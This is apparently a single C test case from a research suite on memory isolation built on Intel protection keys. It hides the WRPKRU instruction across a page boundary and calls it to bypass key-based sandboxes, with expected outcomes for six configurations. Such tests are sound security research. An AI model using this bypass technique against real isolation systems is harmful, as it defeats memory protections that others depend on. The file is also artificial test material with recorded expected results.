/*
{
  "title": "WRPKRU across the border of two pages of one program's code",
  "precondition": "CR4.PKE = 1",
  "reference": "Connor et al., PKU Pitfalls: Attacks on PKU-based Memory Isolation Systems, USENIX Security 2020, section 4",
  "cells": {
    "none": {"outcome": "escaped", "rule": "I2", "event": "guardedAccess"},
    "uio-mpk": {"outcome": "escaped", "rule": "I1", "event": "pkruWrite"},
    "mpk-hardened": {"outcome": "refused"},
    "ring3": {"outcome": "contained", "event": "exception"},
    "pks-hardened": {"outcome": "refused"},
    "mpk-bundled": {"outcome": "refused"}
  },
  "control": {"mpk-hardened": "refused", "pks-hardened": "refused", "mpk-bundled": "refused"}
}
*/
#include "attack.h"

__asm__(
    ".section .text.pages, \"ax\", @progbits\n"
    ".p2align 12, 0x90\n"
    ".skip 4095, 0x90\n"
    "border: .byte 0x0f, 0x01, 0xef, 0xc3\n"
    ".text\n");
extern const char border[];

int main(void) {
  BYPASS_OF_KEYS(__asm__ volatile("call *%3" : : "a"(0), "c"(0), "d"(0), "r"(border) : "memory"));
  GOAL_COUNT();
  return 0;
}
